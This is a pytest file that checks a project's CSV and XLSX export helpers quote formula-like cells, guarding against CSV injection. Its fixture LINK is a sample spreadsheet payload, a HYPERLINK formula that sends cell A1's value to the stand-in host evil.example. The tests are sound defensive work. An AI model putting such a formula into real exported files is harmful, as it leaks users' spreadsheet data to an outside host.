"""Cells of exported files are never live formulas (OWASP CSV injection)."""

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from openvet.core.exports import SafeDictWriter, csv_bytes, csv_cell, xlsx_bytes

LINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (LINK, "'" + LINK),
        ("+86 138", "'+86 138"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("Li Ming", "Li Ming"),
        ("a=b", "a=b"),
        ("", ""),
        (-3, -3),
        (Decimal("-1.5"), Decimal("-1.5")),
        (None, None),
    ],
)
def test_csv_cell_quotes_text_a_spreadsheet_would_evaluate(value: object, written: object) -> None:
    assert csv_cell(value) == written


def test_csv_file_keeps_negative_numbers_and_quotes_formulas() -> None:
    content = csv_bytes(["name", "score"], [[LINK, -3], ["-x", Decimal("-1.5")]])
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert rows == [["name", "score"], ["'" + LINK, "-3"], ["'-x", "-1.5"]]


def test_xlsx_file_stores_formula_like_text_as_text_and_numbers_as_numbers() -> None:
    content = xlsx_bytes(["name", "score"], [[LINK, -3], ["@x", -1.5]])
    sheet = load_workbook(io.BytesIO(content)).active
    assert [[(c.value, c.data_type) for c in row] for row in sheet.iter_rows()] == [
        [("name", "s"), ("score", "s")],
        [(LINK, "s"), (-3, "n")],
        [("@x", "s"), (-1.5, "n")],
    ]


def test_dict_writer_quotes_every_row_it_writes() -> None:
    text = io.StringIO()
    writer = SafeDictWriter(text, fieldnames=["name", "n"])
    writer.writeheader()
    writer.writerows([{"name": LINK, "n": -1}])
    assert list(csv.reader(io.StringIO(text.getvalue()))) == [["name", "n"], ["'" + LINK, "-1"]]
